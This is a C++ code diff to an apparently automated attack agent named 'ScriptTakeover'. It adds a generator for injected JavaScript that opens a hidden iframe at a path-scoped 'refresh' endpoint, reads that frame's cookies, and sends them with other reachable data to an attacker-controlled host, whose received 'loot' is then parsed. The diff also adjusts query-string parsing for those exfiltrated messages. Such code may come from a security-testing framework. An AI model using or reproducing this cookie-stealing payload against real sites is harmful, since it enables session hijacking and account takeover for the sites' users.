@@ -34,7 +34,7 @@ class ScriptTakeover final : public Agent {
         victim_does(target, routines);
         victim_does(target, split(target.option(option::kLater), ','));
         // A policy may have forgotten that a page can be left. With what the page says itself.
-        serve(*host, path, send_script(Channel::Navigation, address, kAllInReach));
+        serve(*host, path, leaving_script(target, address));
         victim_does(target, routines);
         use_loot(target, *host);
     }
@@ -63,6 +63,18 @@ class ScriptTakeover final : public Agent {
         return script + "})();";
     }
 
+    // A cookie may have a path of its own, and is in reach of a document that lies there.
+    static std::string leaving_script(Target const& target, std::string const& address) {
+        Endpoint const* refresh = endpoint_option(target, option::kRefresh, "refresh");
+        if (refresh == nullptr) return send_script(Channel::Navigation, address, kAllInReach);
+        return "(()=>{let c;const i=document.createElement(\"iframe\");const go=()=>{if(c)return;"
+               "c=\"\\n\";try{c+=i.contentWindow.document.cookie}catch{}" +
+               send_script(Channel::Navigation, address,
+                           "c.slice(1)+\"\\n\"+" + std::string(kAllInReach)) +
+               "};i.onload=go;setTimeout(go,2000);i.src=" + script_string(refresh->path) +
+               ";document.documentElement.appendChild(i)})();";
+    }
+
     static void use_loot(Target& target, OwnHost const& host) {
         target.note(std::to_string(host.received().size()) + " messages came from the script.");
         renew(target, host);
@@ -74,7 +86,8 @@ class ScriptTakeover final : public Agent {
         std::size_t tried = 0;
         auto const& received = host.received();
         for (auto request = received.rbegin(); request != received.rend(); ++request) {
-            std::size_t const query = std::min(request->target.find('?'), request->target.size());
+            std::size_t const query =
+                std::min(request->target.find('?'), request->target.size() - 1) + 1;
             std::string const text = request->body.empty()
                                          ? http::percent_decode(request->target.substr(query))
                                          : request->body;
